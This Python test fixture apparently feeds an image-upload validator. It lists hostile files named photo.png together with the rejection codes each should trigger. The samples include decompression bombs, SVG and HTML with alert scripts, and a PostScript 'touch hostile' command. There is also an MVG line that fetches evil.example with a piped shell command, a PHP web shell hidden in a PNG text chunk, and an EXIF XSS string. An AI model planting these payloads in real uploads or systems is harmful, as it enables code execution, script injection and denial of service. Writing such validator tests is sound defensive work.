"""Photos that are none, or more than that; every one of them is called photo.png."""

from __future__ import annotations

import io
import struct
import zlib

from PIL import Image

from photo_files import bomb, chunk, exif, picture, stored, with_segment

_PNG = stored(picture(16, 12), "PNG")
_JPEG = stored(picture(16, 12))
_SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>'
_HTML = b"<!DOCTYPE html><script>alert(1)</script>"


def _with_chunk(kind: bytes, content: bytes) -> bytes:
    """A picture with one more chunk after its head."""
    return _PNG[:33] + chunk(kind, content) + _PNG[33:]


def _moving(kind: str) -> bytes:
    out = io.BytesIO()
    picture(16, 12).save(out, kind, save_all=True, append_images=[Image.new("RGB", (16, 12))])
    return out.getvalue()


def _scans(count: int) -> bytes:
    """A progressive JPEG whose last scan comes again and again: each costs as much as a picture."""
    made = stored(picture(512, 512), progressive=True)
    start = made.rindex(b"\xff\xda")
    scan = made[start:-2]
    return made[:-2] + scan * count + made[-2:]


PHOTOS: tuple[tuple[str, str, bytes, tuple[str, ...]], ...] = (
    ("photo-bomb", "a small file of four thousand million pixels", bomb(65_000, 65_000), ("photo-too-large",)),
    ("photo-bomb-wide", "a picture of one row", bomb(2**31 - 1, 1), ("photo-too-large",)),
    ("photo-bomb-bytes", "a picture that unpacks to more than it says", _PNG[:33] + chunk(b"IDAT", zlib.compress(bytes(50_000_000))) + chunk(b"IEND"), ()),
    ("photo-bomb-profile", "a colour profile that unpacks to a hundred megabytes", _with_chunk(b"iCCP", b"x\0\0" + zlib.compress(bytes(100_000_000))), ("*",)),
    ("photo-bomb-text", "a text that unpacks to a hundred megabytes", _with_chunk(b"zTXt", b"x\0\0" + zlib.compress(bytes(100_000_000))), ("*",)),
    ("photo-scans", "a picture that is drawn two thousand times", _scans(2000), ("*",)),
    ("photo-svg", "a drawing with a script", _SVG, ("not-a-photo",)),
    ("photo-html", "a page", _HTML, ("not-a-photo",)),
    ("photo-gif", "a picture of another kind, with a script", b"GIF89a/*" + bytes(20) + b"*/=1;alert(1)", ("not-a-photo",)),
    ("photo-pdf", "a printed page", b"%PDF-1.7\n" + _PNG, ("not-a-photo",)),
    ("photo-program", "a program", b"MZ" + bytes(600), ("not-a-photo",)),
    ("photo-tiff", "a picture that names other files", b"II*\0" + bytes(600), ("not-a-photo",)),
    ("photo-postscript", "a picture that is a program", b"%!PS-Adobe-3.0 EPSF-3.0\n(touch hostile) run\n", ("not-a-photo",)),
    ("photo-mvg", "a picture that fetches another", b"push graphic-context\nfill 'url(https://evil.example/x\"|touch hostile)'\n", ("not-a-photo",)),
    ("photo-and-archive", "a picture here and an archive there", _PNG + b"PK\x03\x04" + bytes(600) + b"PK\x05\x06" + bytes(18), ("disguised-photo",)),
    ("photo-and-page", "a picture here and a page there", _PNG + _HTML, ("disguised-photo",)),
    ("photo-and-page-inside", "a page in the notes of a picture", _with_chunk(b"tEXt", b"Comment\0" + _HTML), ("disguised-photo",)),
    ("photo-and-page-comment", "a page in the comment of a JPEG", with_segment(_JPEG, 0xFE, _HTML), ("disguised-photo",)),
    ("photo-and-php", "a program of a server in the notes", _with_chunk(b"tEXt", b"Comment\0<?php system($_GET[0]);"), ("disguised-photo",)),
    ("photo-jpeg", "another kind under this ending", _JPEG, ("wrong-photo-suffix",)),
    ("photo-moving", "a picture that moves", _moving("PNG"), ("animated-photo",)),
    ("photo-cut", "half a picture", _PNG[: len(_PNG) // 2], ("damaged-photo",)),
    ("photo-empty", "nothing", b"", ("not-a-photo",)),
    ("photo-head", "a head and nothing else", _PNG[:8], ("damaged-photo",)),
    ("photo-checksum", "a wrong checksum", _PNG[:29] + b"\0\0\0\0" + _PNG[33:], ("damaged-photo",)),
    ("photo-length", "a chunk longer than the file", _PNG[:33] + struct.pack(">I", 2**31 - 1) + b"IDATx", ("damaged-photo",)),
    ("photo-chunks", "thirty thousand chunks", _PNG[:33] + chunk(b"tEXt", b"a\0b") * 30_000 + _PNG[33:], ("damaged-photo",)),
    ("photo-position", "where it was taken", stored(picture(16, 12), "PNG", exif=exif(position=True)), ("photo-position",)),
    ("photo-large", "six megabytes", _PNG + bytes(6_000_000), ("photo-too-large",)),
    ("photo-nought", "a picture of no width", bomb(0, 12), ("*",)),
    ("photo-script-in-notes", "a handler in the name of the maker", stored(picture(16, 12), "PNG", exif=exif(maker='"><img src=x onerror=alert(1)>')), ()),
)  # fmt: skip
"""Name, what it tries, the bytes, the codes that it is refused for."""
